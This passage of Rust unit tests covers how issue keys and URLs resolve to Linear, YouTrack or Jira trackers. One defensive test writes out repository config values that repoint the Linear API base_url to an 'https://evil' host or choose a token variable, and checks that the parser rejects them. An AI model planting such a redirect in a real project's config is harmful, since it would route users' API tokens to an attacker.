        let env = FakeEnv(vec![("LINEAR_API_KEY", "lin_api_k")]);
        let cfg = user("[linear]\nteams = [\"ENG\"]\n[youtrack]\nbase_url = \"https://y.test\"\n");
        let none = RepoFile::default();
        let t = resolve_str("ENG-123", &cfg, &none, &env);
        assert_eq!(t.tracker(), Kind::Linear);
        assert_eq!(t.base, LINEAR_API);
        assert!(matches!(&t.auth, Some(Auth::Plain(s)) if s.expose() == "lin_api_k"));
        // Other keys go to the tracker that takes any project.
        assert_eq!(
            resolve_str("OPS-1", &cfg, &none, &env).tracker(),
            Kind::YouTrack
        );
        let only_linear = user("[linear]\nteams = [\"ENG\"]\n");
        let err = resolve(
            &IssueRef::Key("OPS-1".into()),
            &only_linear,
            &none,
            Path::new("/"),
            &env,
        )
        .expect_err("unlisted team");
        assert!(
            err.to_string()
                .contains("no configured tracker lists project OPS")
        );
        // A repository may add teams, not move the API or name a key.
        let repo: RepoFile =
            toml::from_str("[trackers.linear]\nteams = [\"WEB\"]\n").expect("repo");
        assert_eq!(
            resolve_str("WEB-2", &only_linear, &repo, &env).tracker(),
            Kind::Linear
        );
        for bad in [
            "[trackers.linear]\nbase_url = \"https://evil\"\n",
            "[trackers.linear]\ntoken_env = \"X\"\n",
        ] {
            assert!(RepoFile::parse(bad).is_err(), "{bad}");
        }
        let url = resolve_str(
            "https://linear.app/acme/issue/ENG-9/x",
            &TrackersConfig::default(),
            &none,
            &env,
        );
        assert_eq!(
            (url.tracker(), url.label.id.as_str()),
            (Kind::Linear, "ENG-9")
        );
    }

    #[test]
    fn jira_cloud_token_needs_an_email() {
        let env = FakeEnv(vec![("JIRA_API_TOKEN", "t")]);
        let cfg = user("[jira]\nbase_url = \"https://acme.atlassian.net\"\n");
        let err = resolve(
            &IssueRef::Key("KK-1".into()),
            &cfg,
            &RepoFile::default(),
            Path::new("/"),
            &env,
        )
        .expect_err("no email");
        assert!(err.to_string().contains("email"), "{err}");
        let dc = user("[jira]\nbase_url = \"https://jira.corp\"\n");
        let t = resolve_str("KK-1", &dc, &RepoFile::default(), &env);
        assert_eq!(t.jira_api, JiraApi::DataCenter);
        assert!(matches!(t.auth, Some(Auth::Bearer(_))));
    }
}
